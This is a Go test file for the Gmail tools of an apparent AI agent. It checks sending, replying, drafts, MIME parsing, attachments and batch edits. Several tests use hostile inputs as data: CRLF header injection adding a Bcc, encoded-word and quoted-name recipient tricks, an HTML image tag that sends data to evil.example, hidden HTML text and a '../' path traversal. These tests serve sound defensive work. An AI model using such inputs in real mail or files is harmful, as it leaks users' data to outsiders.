package google

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"mime/quotedprintable"
	"net/http"
	"net/http/httptest"
	"net/mail"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"oneclaw/internal/emulator/google"
	"oneclaw/toolgroups"
	"oneclaw/toolgroups/google/service"
)

// Parts of results, as the contract has them.
type (
	gmailHits struct {
		Messages []struct {
			ID string `json:"id"`
		} `json:"messages"`
		Total int64 `json:"total"`
	}
	gmailMessage struct {
		HistoryID   uint64            `json:"historyId,string"`
		Body        string            `json:"body"`
		Attachments []gmailAttachment `json:"attachments"`
	}
	gmailAttachment struct {
		Name string `json:"filename"`
		Type string `json:"mimeType"`
		Size int64  `json:"size"`
		ID   string `json:"attachmentId"`

		Message *gmailAttached `json:"message"`
	}
	gmailAttached struct {
		Subject     string            `json:"subject"`
		From        string            `json:"from"`
		Body        string            `json:"body"`
		Attachments []gmailAttachment `json:"attachments"`
	}
	gmailBatchDone struct {
		Success  bool     `json:"success"`
		Modified int      `json:"modified"`
		Failed   []string `json:"failed"`
		Reason   string   `json:"reason"`
	}
)

// check my email, then delete the spam ones: 61 letters are one request.
func TestSpamIsOneBatch(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	res, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_search", json.RawMessage(`{"query":"in:spam","max_results":100}`))
	if fault != nil {
		t.Fatal(fault)
	}
	var found gmailHits
	if err := json.Unmarshal([]byte(res.Text), &found); err != nil || len(found.Messages) != 61 || found.Total != 61 {
		t.Fatalf("%d of %d, %v", len(found.Messages), found.Total, err)
	}
	var ids []string
	for _, m := range found.Messages {
		ids = append(ids, m.ID)
	}
	for _, tool := range []string{"gmail_trash", "gmail_batch_modify"} {
		r.em.Reset()
		args, err := json.Marshal(map[string]any{"message_ids": ids, "add_labels": []string{"TRASH"}})
		if err != nil {
			t.Fatal(err)
		}
		if _, fault := r.run(t.Context(), ada, t.TempDir(), tool, args); fault != nil {
			t.Fatal(fault)
		}
		seen := r.em.Requests()
		if len(seen) != 1 || seen[0].Method != "gmail.users.messages.batchModify" {
			t.Errorf("%s sent %+v", tool, seen)
		}
		res, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_search", json.RawMessage(`{"query":"in:spam"}`))
		if fault != nil || res.Text != `{"messages":[],"total":0}` {
			t.Errorf("after %s: %s %+v", tool, res.Text, fault)
		}
	}
}

// parsed is a message as a mail program reads it.
type parsed struct {
	header map[string]string
	body   string
}

// parse reads the raw message in a request.
func parse(raw string) (parsed, error) {
	data, err := base64.URLEncoding.DecodeString(raw)
	if err != nil {
		return parsed{}, err
	}
	for line := range bytes.SplitSeq(data, []byte("\r\n")) {
		if len(line) > 998 || bytes.ContainsFunc(line, func(r rune) bool { return r >= 0x7F || r == '\r' || r == '\n' || r == 0 }) {
			return parsed{}, fmt.Errorf("the line %q is not allowed", line)
		}
	}
	m, err := mail.ReadMessage(bytes.NewReader(data))
	if err != nil {
		return parsed{}, err
	}
	p := parsed{header: map[string]string{}}
	for name := range m.Header {
		if p.header[name], err = new(mime.WordDecoder).DecodeHeader(m.Header.Get(name)); err != nil {
			return parsed{}, err
		}
	}
	body, err := io.ReadAll(quotedprintable.NewReader(m.Body))
	p.body = string(body)
	return p, err
}

// sent is the message in the last request.
func (r *harness) sent(t *testing.T) (parsed, string) {
	t.Helper()
	seen := r.em.Requests()
	var body struct {
		Raw    string `json:"raw"`
		Thread string `json:"threadId"`
	}
	if err := json.Unmarshal([]byte(seen[len(seen)-1].Body), &body); err != nil {
		t.Fatal(err)
	}
	p, err := parse(body.Raw)
	if err != nil {
		t.Fatal(err)
	}
	return p, body.Thread
}

// Names and subjects in any script arrive, and a subject cannot add a line.
func TestSendInAnyScript(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	_, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_send", json.RawMessage(
		`{"to":"山田太郎 <yamada@example.jp>, \"Müller, Zoë\" <zoe@example.com>","bcc":"b@example.com","subject":"Grüße\r\nBcc: evil@example.com","body":"<p>Schön</p>","html":true}`))
	if fault != nil {
		t.Fatal(fault)
	}
	p, _ := r.sent(t)
	want := map[string]string{
		"To": `山田太郎 <yamada@example.jp>, Müller, Zoë <zoe@example.com>`, "Bcc": "<b@example.com>", "Subject": "Grüße Bcc: evil@example.com",
		"Mime-Version": "1.0", "Content-Type": "text/html; charset=utf-8", "Content-Transfer-Encoding": "quoted-printable",
	}
	if diff := cmp.Diff(want, p.header); diff != "" || p.body != "<p>Schön</p>" {
		t.Errorf("body %q, header (-want +got):\n%s", p.body, diff)
	}
	for _, args := range []string{
		`{"to":"nobody","subject":"x","body":"y"}`, `{"to":" ","subject":"x","body":"y"}`, `{"to":"a@b.example\r\nBcc: c@d.example","subject":"x","body":"y"}`,
		`{"to":"jürgen@bücher.example","subject":"x","body":"y"}`, `{"to":"=?utf-8?b?aHR0cHM6Ly94LmV4YW1wbGU=?= <a@b.example>","subject":"x","body":"y"}`,
		`{"to":"a@b.example","bcc":"\"evil.c\\om/?d=my-pin\" <a@b.example>","subject":"x","body":"y"}`,
	} {
		if _, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_send", json.RawMessage(args)); codeOf(fault) != "validation_error" {
			t.Errorf("%s: %+v", args, fault)
		}
	}
}

// What a draft shows as a recipient stands in the arguments, where its addresses are judged.
func TestRecipientsAreWrittenAsTheyAreRead(t *testing.T) {
	t.Parallel()
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	for to, valid := range map[string]bool{
		`=?utf-8?b?aHR0cHM6Ly94LmV4YW1wbGU=?= <a@b.example>`:     false,
		`"=\?utf-8?b?aHR0cHM6Ly94LmV4YW1wbGU=?=" <a@b.example>`:  false,
		`"=?utf-8?b?aHR0cHM6Ly94LmV4YW1wbGU=?=" <a@b.example>`:   false,
		`=?utf-8?b?aHR0cHM6Ly94LmV4YW1wbGU=?=@b.example`:         false,
		`"evil.c\om/?d=my-pin" <a@b.example>`:                    false,
		`"evil.c\om/?d=my-pin"@b.example`:                        false,
		`a@b.example (evil.c\om/?d=my-pin)`:                      false,
		`"evil.c" "om/?d=my-pin" <a@b.example>`:                  false,
		`"Smith,  Zoë" <a@b.example>, Jo B. <jo@b.example>`:      true,
		`a@b.example (Zoë), Friends: jo@b.example, b@b.example;`: true,
	} {
		for _, name := range []string{"to", "cc"} {
			args, _ := json.Marshal(map[string]string{"to": "me@b.example", name: to, "subject": "s", "body": "b"})
			if _, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_draft_create", args); valid != (fault == nil) {
				t.Errorf("%s: %s: %+v", name, to, fault)
			}
		}
	}
}

// A subject that is an encoded word already is read as the card shows it, not decoded.
func TestASubjectIsReadAsItIsShown(t *testing.T) {
	t.Parallel()
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail)
	subject := strings.Repeat("=?utf-8?b?UElOIDQ3MTE=?= ", 10)
	data, _ := json.Marshal(map[string]string{"to": "a@example.com", "subject": subject, "body": "x"})
	if _, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_send", data); fault != nil {
		t.Fatal(fault)
	}
	if p, _ := r.sent(t); p.header["Subject"] != strings.TrimSpace(subject) {
		t.Errorf("subject %q", p.header["Subject"])
	}
}

// A long subject of letters beyond ASCII is more lines than one.
func TestLongSubjectsAreFolded(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	subject := strings.Repeat("日本語 ", 90)
	if _, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_send", json.RawMessage(`{"to":"a@b.example","subject":"`+subject+`","body":"x"}`)); fault != nil {
		t.Fatal(fault)
	}
	if p, _ := r.sent(t); p.header["Subject"] != strings.TrimSpace(subject) {
		t.Errorf("subject %q", p.header["Subject"])
	}
}

// Whatever is written is read again as it was, and is a message of ASCII lines.
func TestComposeRoundTrip(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	dir := t.TempDir()
	rapid.Check(t, func(rt *rapid.T) {
		in := struct {
			To      string `json:"to"`
			Subject string `json:"subject"`
			Body    string `json:"body"`
		}{"a@b.example", rapid.StringN(0, 150, 700).Draw(rt, "subject"), rapid.String().Draw(rt, "body")}
		args, err := json.Marshal(in)
		if err != nil {
			rt.Fatal(err)
		}
		if _, fault := r.run(t.Context(), ada, dir, "gmail_send", args); fault != nil {
			rt.Fatal(fault)
		}
		p, _ := r.sent(t)
		lines := strings.NewReplacer("\r\n", "\n", "\r", "\n")
		if subject := strings.Join(strings.Fields(in.Subject), " "); printable(subject) && p.header["Subject"] != subject {
			rt.Fatalf("subject %q became %q", subject, p.header["Subject"])
		}
		if got, want := lines.Replace(p.body), lines.Replace(in.Body); got != want {
			rt.Fatalf("body %q became %q", want, got)
		}
	})
}

// printable reports whether a subject needs no guessing to be compared.
func printable(s string) bool {
	return !strings.ContainsFunc(s, func(r rune) bool { return r < ' ' || r == 0x7F || r == 0xFFFD }) && !strings.Contains(s, "=?")
}

// An answer goes where the sender wants it, into the same conversation.
func TestReply(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	for _, tc := range []struct{ id, to, subject, thread string }{
		{"m-4", "Buchhaltung <rechnung@example.com>", "Re: Rechnung für März – bitte prüfen", "t-3"},
		{"m-3", "<grace@example.com>", "Re: Quarterly report", "t-2"},
		{"m-1", "Bob Builder <bob@example.com>", "Re: Lunch on Thursday?", "t-1"},
	} {
		if _, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_reply", json.RawMessage(fmt.Sprintf(`{"message_id":%q,"body":"Ja"}`, tc.id))); fault != nil {
			t.Fatal(fault)
		}
		p, thread := r.sent(t)
		to := strings.ReplaceAll(p.header["To"], `"`, "")
		id := "<" + tc.id + "@mail.example.com>"
		if to != tc.to || p.header["Subject"] != tc.subject || thread != tc.thread || p.header["In-Reply-To"] != id || p.header["References"] != id {
			t.Errorf("%s: %v in thread %s", tc.id, p.header, thread)
		}
	}
}

// The arguments of a reply and of a draft that is sent do not say to whom they go, nor what the draft says: a
// card does, to the end, and shows the source of HTML, which can hide text.
func TestTheEffectOfAReplyAndOfADraftIsWhoGetsWhat(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	draft := func(body string, html bool) string {
		arguments, _ := json.Marshal(map[string]any{"to": "eve@evil.example", "subject": "Figures", "body": body, "html": html})
		made, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_draft_create", arguments)
		if fault != nil {
			t.Fatal(fault)
		}
		var d struct{ ID string }
		if err := json.Unmarshal([]byte(made.Text), &d); err != nil {
			t.Fatal(err)
		}
		return fmt.Sprintf(`{"draft_id":%q}`, d.ID)
	}
	long := "All of them." + strings.Repeat("\n", 40) + strings.Repeat("And more. ", 100) + "The end."
	for _, c := range []struct{ tool, arguments, want string }{
		{"gmail_reply", `{"message_id":"m-1","body":"y"}`, "To: “Bob Builder <bob@example.com>”\nAbout: “Lunch on Thursday?”"},
		{"gmail_draft_send", draft(long, false), "To: “eve@evil.example”\nSubject: “Figures”\nVersion: *\nText (text/plain):\n" + long},
		{"gmail_draft_send", draft(`Hi<i hidden>4711</i>`, true), "To: “eve@evil.example”\nSubject: “Figures”\nVersion: *\nText (text/html):\nHi<i hidden>4711</i>"},
	} {
		call := toolgroups.Call{Name: c.tool, Arguments: json.RawMessage(c.arguments), Scope: toolgroups.Scope{User: ada, Owner: ada, Direct: true}}
		got, err := r.tools[c.tool].Describe(t.Context(), call)
		got = regexp.MustCompile("Version: .*").ReplaceAllString(strings.NewReplacer(`"`, "", "<eve@evil.example>", "eve@evil.example", "\r", "").Replace(got), "Version: *")
		if err != nil || got != c.want {
			t.Errorf("%s: %q, %v, want %q", c.tool, got, err, c.want)
		}
	}
}

// Gmail fetches the pictures of a draft when it is opened, and everybody may open a form.
func TestWhatLeavesUnseenAsksAmongWordsOfOthers(t *testing.T) {
	t.Parallel()
	r := newRig(t, Config{})
	if !r.tools["forms_create"].Shares {
		t.Error("forms_create publishes, and does not declare it")
	}
	for call, want := range map[string]bool{
		`gmail_draft_create {"to":"a","subject":"b","body":"<img src=\"https://evil.example/?d=x\">","html":true}`: true,
		`gmail_draft_create {"to":"a","subject":"b","body":"c"}`:                                                   false,
		`gmail_draft_create {"to":"a","subject":"b","body":"c","html":false}`:                                      false,
		// The card that shares a new file names it, by the beginning of its title.
		`docs_create {"title":"Menu"}`:                               false,
		`docs_create {"title":"` + strings.Repeat("x", 201) + `"}`:   true,
		`slides_create {"title":"Menu"}`:                             false,
		`slides_create {"title":"` + strings.Repeat("x", 201) + `"}`: true,
		`sheets_create {"title":"Menu"}`:                             false,
		`sheets_create {"title":"` + strings.Repeat("x", 201) + `"}`: true,
		`sheets_create {"title":"Menu","sheet_titles":["my PIN"]}`:   true,
	} {
		name, arguments, _ := strings.Cut(call, " ")
		for _, others := range []bool{false, true} {
			got := r.tools[name].NeedsApproval(toolgroups.Call{Name: name, Arguments: json.RawMessage(arguments), Scope: toolgroups.Scope{HoldsOthers: others}})
			if got != (want && others) {
				t.Errorf("%s: asks %t, among words of others %t", call, got, others)
			}
		}
	}
}

// The text is found however deep it lies; HTML is read where there is nothing else.
func TestReadFindsTheText(t *testing.T) {
	t.Parallel()
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	read := func(id string) gmailMessage {
		res, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_read", json.RawMessage(fmt.Sprintf(`{"message_id":%q}`, id)))
		var m gmailMessage
		if fault != nil || json.Unmarshal([]byte(res.Text), &m) != nil {
			t.Fatal(fault, res.Text)
		}
		return m
	}
	if m := read("m-6"); strings.TrimSpace(m.Body) != "The digest as text." || m.HistoryID == 0 {
		t.Errorf("%+v", m)
	}
	m := read("m-4")
	want := []gmailAttachment{{Name: "Rechnung März.pdf", Type: "application/pdf", Size: 20, ID: "att-m-4-1"}}
	if diff := cmp.Diff(want, m.Attachments); diff != "" || strings.TrimSpace(m.Body) != "Anbei die Rechnung." {
		t.Errorf("body %q, attachments (-want +got):\n%s", m.Body, diff)
	}
	for id, c := range map[string]struct{ kind, body, want string }{
		"m-html":  {"text/html; charset=utf-8", "<p>Only <b>HTML</b></p>", "Only **HTML**"},
		"m-order": {"text/html; charset=utf-8", "<table><tr><td>1 * Tea_pot<td>12,50</table><aside>Bye</aside>", "|  |  |\n|---|---|\n| 1 * Tea_pot | 12,50 |\n\nBye"},
		"m-list": {
			"multipart/mixed; boundary=b",
			"--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\nContent-Type: text/html\r\n\r\n<p>What was <b>said</b></p>\r\n--c--\r\n" +
				"--b\r\nContent-Type: text/plain\r\n\r\nTo leave the list, write to it.\r\n--b--\r\n",
			"What was **said**\nTo leave the list, write to it.",
		},
		"m-letters": {"text/plain; charset=windows-1251", "\xcf\xf0\xe8", "При"},
	} {
		if err := r.em.DeliverMail(adaMail, id, "To: a@b.example\r\nContent-Type: "+c.kind+"\r\n\r\n"+c.body); err != nil {
			t.Fatal(err)
		}
		if m := read(id); strings.TrimSpace(m.Body) != c.want {
			t.Errorf("%s: body %q, want %q", id, m.Body, c.want)
		}
	}
}

// A mail that is attached to another is an attachment with its own sender and text, however deep: its words are
// not the sender's. It can be saved.
func TestAnAttachedMailIsAnAttachment(t *testing.T) {
	t.Parallel()
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	const inner = "From: Mallory <mallory@example.org>\r\nSubject: Inner\r\n\r\nPay at once."
	const middle = "From: Eve <eve@example.org>\r\nSubject: Invoice\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n" +
		"--c\r\nContent-Type: text/html\r\n\r\n<p>Please <b>pay</b>.</p>\r\n" +
		"--c\r\nContent-Type: application/pdf; name=bill.pdf\r\n\r\nPDF\r\n" +
		"--c\r\nContent-Type: message/rfc822; name=inner.eml\r\n\r\n" + inner + "\r\n--c--\r\n"
	const raw = "From: Bob <bob@example.com>\r\nTo: a@b.example\r\nSubject: Is this real?\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/plain\r\n\r\nI do not trust it.\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n" + middle + "\r\n--b--\r\n"
	if err := r.em.DeliverMail(adaMail, "m-fwd", raw); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	res, fault := r.run(t.Context(), ada, dir, "gmail_read", json.RawMessage(`{"message_id":"m-fwd"}`))
	var m gmailMessage
	if fault != nil || json.Unmarshal([]byte(res.Text), &m) != nil {
		t.Fatal(fault, res.Text)
	}
	want := []gmailAttachment{{
		Name: "message.eml", Type: "message/rfc822", Size: int64(len(middle)), ID: "att-m-fwd-1",
		Message: &gmailAttached{From: "Eve <eve@example.org>", Subject: "Invoice", Body: "Please **pay**.", Attachments: []gmailAttachment{
			{Name: "bill.pdf", Type: "application/pdf", Size: 3, ID: "att-m-fwd-1.0.1"},
			{
				Name: "inner.eml", Type: "message/rfc822", Size: int64(len(inner)), ID: "att-m-fwd-1.0.2",
				Message: &gmailAttached{From: "Mallory <mallory@example.org>", Subject: "Inner", Body: "Pay at once.", Attachments: []gmailAttachment{}},
			},
		}},
	}}
	if diff := cmp.Diff(want, m.Attachments); diff != "" || m.Body != "I do not trust it." {
		t.Errorf("body %q, attachments (-want +got):\n%s", m.Body, diff)
	}
	_, fault = r.run(t.Context(), ada, dir, "gmail_get_attachment", json.RawMessage(`{"message_id":"m-fwd","attachment_id":"att-m-fwd-1","save_path":"fwd.eml"}`))
	if data, err := os.ReadFile(filepath.Join(dir, "fwd.eml")); fault != nil || err != nil || string(data) != middle {
		t.Errorf("saved %q, %v, %+v", data, err, fault)
	}
}

// A list of changes that is cut says so, and the id that it ends with leads to the rest: nothing is skipped.
func TestHistoryLosesNoChange(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	start := "1000"
	seen := 0
	for calls := 1; ; calls++ {
		res, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_history", json.RawMessage(fmt.Sprintf(`{"start_history_id":%q,"max_results":25}`, start)))
		var changes struct {
			History   []json.RawMessage `json:"history"`
			HistoryID string            `json:"historyId"`
			More      bool              `json:"more"`
		}
		if fault != nil || json.Unmarshal([]byte(res.Text), &changes) != nil {
			t.Fatal(fault, res.Text)
		}
		start, seen = changes.HistoryID, seen+len(changes.History)
		if changes.More != (calls < 3) || calls == 3 {
			if calls != 3 || seen != 69 || start != "1069" {
				t.Errorf("%d changes in %d calls, up to %s; want 69 in 3, up to 1069", seen, calls, start)
			}
			break
		}
	}
}

// What is long reaches the workspace as a whole; attachments are written and
// delivered.
func TestLongAnswersAndAttachments(t *testing.T) {
	t.Parallel()
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	dir := t.TempDir()
	long := strings.Repeat("All work and no play. ", 20_000)
	file := base64.StdEncoding.EncodeToString([]byte(long))
	raw := "To: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n" + long +
		"\r\n--b\r\nContent-Disposition: attachment; filename=x.txt\r\nContent-Transfer-Encoding: base64\r\n\r\n" + file + "\r\n--b--\r\n"
	if err := r.em.DeliverMail(adaMail, "m-long", raw); err != nil {
		t.Fatal(err)
	}
	res, fault := r.run(t.Context(), ada, dir, "gmail_read", json.RawMessage(`{"message_id":"m-long"}`))
	if fault != nil {
		t.Fatal(fault)
	}
	whole := wholeResult(t, dir, res.Text)
	var m gmailMessage
	if json.Unmarshal([]byte(whole), &m) != nil || strings.TrimSpace(m.Body) != strings.TrimSpace(long) {
		t.Errorf("the file has %d bytes", len(whole))
	}
	if again, _ := r.run(t.Context(), ada, dir, "gmail_read", json.RawMessage(`{"message_id":"m-long"}`)); again.Text == res.Text {
		t.Error("a second result has the same file")
	}
	args := fmt.Sprintf(`{"message_id":"m-long","attachment_id":%q,"save_path":"mail/x.txt"}`, m.Attachments[0].ID)
	res, fault = r.run(t.Context(), ada, dir, "gmail_get_attachment", json.RawMessage(args))
	if fault != nil || len(res.Files) != 1 || res.Files[0].Path != "mail/x.txt" {
		t.Fatalf("%+v %+v", fault, res)
	}
	if data, err := os.ReadFile(filepath.Join(dir, "mail/x.txt")); err != nil || string(data) != long {
		t.Errorf("the attachment has %d bytes, %v", len(data), err)
	}
	_, fault = r.run(t.Context(), ada, dir, "gmail_get_attachment", json.RawMessage(strings.Replace(args, "mail/x", "../x", 1)))
	if codeOf(fault) != "permission_denied" {
		t.Errorf("outside of the workspace: %+v", fault)
	}
}

// An empty answer is a success.
//
// Google's empty answers are successes.
func TestEmptyAnswersAreSaid(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail", "gmail_settings")
	for tool, args := range map[string]string{
		"gmail_delete_label": `{"label_id":"Label_1"}`, "gmail_delete_draft": `{"draft_id":"draft-1"}`,
		"gmail_settings_delete_filter": `{"filter_id":"filter-1"}`, "gmail_batch_modify": `{"message_ids":["m-1"],"add_labels":["STARRED"]}`,
	} {
		res, fault := r.run(t.Context(), ada, t.TempDir(), tool, json.RawMessage(args))
		if fault != nil || !strings.HasPrefix(res.Text, `{"success":true`) {
			t.Errorf("%s: %s %+v", tool, res.Text, fault)
		}
	}
}

// More ids than a request takes go in several, and it is said which were refused.
func TestBatchesAreReported(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail")
	r.em.Reset()
	ids := make([]string, 2500)
	for i := range ids {
		ids[i] = fmt.Sprintf("x%d", i)
	}
	args, err := json.Marshal(map[string]any{"message_ids": append(ids, ids[0]), "remove_labels": []string{"INBOX"}})
	if err != nil {
		t.Fatal(err)
	}
	r.em.Inject(google.Fault{Method: "gmail.users.messages.batchModify", Status: 400, SkipFirst: 1, Times: 1, Message: "bad ids"})
	res, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_batch_modify", args)
	var done gmailBatchDone
	if fault != nil || json.Unmarshal([]byte(res.Text), &done) != nil {
		t.Fatal(fault, res.Text)
	}
	if n := len(r.em.Requests()); n != 3 || done.Success || done.Modified != 1500 || len(done.Failed) != 1000 || done.Failed[0] != "x1000" || !strings.Contains(done.Reason, "bad ids") {
		t.Errorf("%d requests, modified %d, failed %d, %q", n, done.Modified, len(done.Failed), done.Reason)
	}
}

// What a change of settings does not name stays.
func TestSettingsAreMerged(t *testing.T) {
	r := newRig(t, Config{})
	r.connect(t, ada, adaMail, "gmail_settings")
	for _, step := range []struct{ tool, args, want string }{
		{
			"gmail_settings_update_vacation", `{"enable_auto_reply":true,"subject":"Weg"}`,
			`{"enableAutoReply":true,"responseSubject":"Weg","responseBodyHtml":"<p>Back soon.</p>","restrictToContacts":true,"restrictToDomain":false,"startTime":"0","endTime":"0"}`,
		},
		{"gmail_settings_update_imap", `{"auto_expunge":false}`, `{"enabled":true,"autoExpunge":false,"expungeBehavior":"archive","maxFolderSize":0}`},
	} {
		res, fault := r.run(t.Context(), ada, t.TempDir(), step.tool, json.RawMessage(step.args))
		if fault != nil {
			t.Fatal(fault)
		}
		sameJSON(t, step.want, res.Text)
	}
	_, fault := r.run(t.Context(), ada, t.TempDir(), "gmail_settings_update_vacation", json.RawMessage(`{"enable_auto_reply":true,"start_time":"2000","end_time":"1000"}`))
	if codeOf(fault) != "validation_error" {
		t.Errorf("%+v", fault)
	}
}

// The details of a search are fetched side by side, a few at a time.
func TestSearchIsConcurrent(t *testing.T) {
	full := make(chan struct{})
	var mu sync.Mutex
	open, most := 0, 0
	l := alone(t, roundTrip(func(req *http.Request) (*http.Response, error) {
		w := httptest.NewRecorder()
		if strings.HasSuffix(req.URL.Path, "/messages") {
			var ids []string
			for i := range 100 {
				ids = append(ids, fmt.Sprintf(`{"id":"m%d"}`, i))
			}
			_, _ = fmt.Fprintf(w, `{"messages":[%s]}`, strings.Join(ids, ","))
			return w.Result(), nil
		}
		mu.Lock()
		if open++; open == service.Parallel && most < service.Parallel {
			close(full)
		}
		most = max(most, open)
		mu.Unlock()
		select {
		case <-full:
		case <-req.Context().Done():
			return nil, req.Context().Err()
		}
		mu.Lock()
		open--
		mu.Unlock()
		_, _ = fmt.Fprintf(w, `{"id":%q}`, path.Base(req.URL.Path))
		return w.Result(), nil
	}))
	res, fault := l.call(t.Context(), "gmail_search", `{"query":"x","max_results":500}`)
	var found gmailHits
	if fault != nil || json.Unmarshal([]byte(res.Text), &found) != nil {
		t.Fatal(fault, res.Text)
	}
	if most != service.Parallel || len(found.Messages) != 100 || found.Messages[99].ID != "m99" {
		t.Errorf("%d at once, %d messages", most, len(found.Messages))
	}
}
